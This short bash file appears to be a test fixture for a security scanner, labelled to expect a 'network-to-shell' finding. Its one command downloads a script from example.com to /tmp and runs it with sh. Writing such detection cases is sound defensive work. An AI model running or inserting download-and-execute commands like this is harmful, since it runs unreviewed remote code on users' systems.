#!/bin/bash
# shows: fetched and run in one condition
# expect: network-to-shell at line 4
if wget -q https://example.com/a.sh -O /tmp/a.sh; then sh /tmp/a.sh; fi
